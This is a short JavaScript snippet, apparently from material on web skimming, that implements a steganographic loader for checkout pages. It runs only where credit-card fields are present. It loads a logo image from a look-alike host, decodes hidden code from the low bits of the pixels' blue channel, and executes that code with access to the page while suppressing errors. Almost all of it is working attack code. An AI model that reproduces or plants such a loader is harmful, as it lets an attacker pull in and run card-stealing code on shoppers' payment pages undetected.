// The same technique with least-significant-bit coding: eight pixels' blue bits make one
// byte, the first four bytes give the length, and the decoded text is handed to a Function.
// The image is the shop's own logo path on a look-alike host.
window.addEventListener("load", function () {
  if (document.querySelectorAll("input[name*='cc_'],input[autocomplete='cc-number'],#payment").length === 0) return;
  var logo = new Image();
  logo.crossOrigin = "anonymous";
  logo.addEventListener("load", function () {
    var cv = document.createElement("canvas");
    cv.width = logo.width;
    cv.height = logo.height;
    var g = cv.getContext("2d");
    g.drawImage(logo, 0, 0);
    var d = g.getImageData(0, 0, cv.width, cv.height).data;
    var pos = 0;
    function byte() {
      var b = 0;
      for (var k = 0; k < 8; k++) {
        b = (b << 1) | (d[pos * 4 + 2] & 1);
        pos++;
      }
      return b;
    }
    var len = (byte() << 24) | (byte() << 16) | (byte() << 8) | byte();
    if (len <= 0 || len > 65536) return;
    var bytes = new Uint8Array(len);
    for (var j = 0; j < len; j++) bytes[j] = byte();
    var code = new TextDecoder("utf-8").decode(bytes);
    try { new Function("w", "d", code)(window, document); } catch (e) {}
  });
  logo.src = "https://northwind-outfitters-static.invalid/skin/frontend/default/images/logo.png";
});
